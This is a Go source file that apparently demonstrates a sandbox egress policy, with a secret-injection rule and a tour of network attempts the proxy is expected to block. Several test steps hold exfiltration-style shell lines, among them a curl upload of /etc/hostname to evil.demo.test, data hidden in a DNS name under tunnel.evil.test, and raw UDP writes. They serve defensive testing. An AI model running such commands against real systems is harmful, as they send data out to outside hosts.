package main

import (
	"fmt"

	"sallyport/audit"
)

// demoHosts are the names of the demo that lead to its origin.
func demoHosts() []string { return []string{"api.demo.test", "other.demo.test"} }

func demoPolicy(port int) string {
	return fmt.Sprintf(`secret "API_KEY" {
  hosts = ["api.demo.test"]
  source "env" { name = "DEMO_REAL_KEY" }
}

sandbox "demo" {
  allow "api.demo.test" {
    ports     = [%[1]d]
    addresses = ["127.0.0.1/32"]   # the origin of the demo is on this machine
    inject    = ["API_KEY"]
  }
  allow "other.demo.test" {
    ports     = [%[1]d]
    addresses = ["127.0.0.1/32"]
  }
}
`, port)
}

// demoSteps are the attempts of the tour, each with what must come of it.
func demoSteps(port int) []demoStep {
	return []demoStep{
		{
			title: "An allowed call: the origin gets the key, the sandbox has only its placeholder",
			shell: fmt.Sprintf(`echo "API_KEY=$API_KEY"; curl -sS https://api.demo.test:%d/v1/hello -H "Authorization: Bearer $API_KEY"`, port),
			sees:  []string{"API_KEY=$API_KEY", "hello from the origin"}, received: "Bearer " + demoSecret,
			kind: audit.KindHTTP, reason: "rule_allow",
		},
		{
			title: "A host that is not allowed",
			shell: `curl -sS https://evil.demo.test/upload -d @/etc/hostname`,
			sees:  []string{"host_not_allowed"}, kind: audit.KindHTTP, reason: "host_not_allowed",
		},
		{
			title: "An allowed host on another port",
			shell: `curl -sS -m 5 https://api.demo.test:9999/`,
			sees:  []string{"port_not_allowed"}, kind: audit.KindConn, reason: "port_not_allowed",
		},
		{
			title: "The placeholder to an allowed host that is not approved for the key",
			shell: fmt.Sprintf(`curl -sS https://other.demo.test:%d/ -H "Authorization: Bearer $API_KEY"`, port),
			sees:  []string{"placeholder_leak"}, kind: audit.KindHTTP, reason: "placeholder_leak",
		},
		{
			title: "An address instead of a name",
			shell: `curl -sS -m 5 -k https://192.0.2.1/ || echo "curl failed, as it must"`,
			sees:  []string{"curl failed, as it must"}, kind: audit.KindConn, reason: "ip_literal",
		},
		{
			title: "Data in a DNS name: the question is answered here, and asked nowhere",
			shell: `getent ahostsv4 c2VjcmV0LWRhdGE.tunnel.evil.test | head -1`,
			sees:  []string{"198.18.0.2"}, kind: audit.KindDNS, reason: "host_not_allowed",
		},
		{
			title: "QUIC, and everything else that is not TCP or DNS",
			shell: `bash -c 'exec 3>/dev/udp/192.0.2.1/443; echo data >&3; sleep 0.1; echo data >&3' || echo "refused, as it must be"`,
			sees:  nil, kind: audit.KindPacket, reason: "quic_blocked",
		},
	}
}
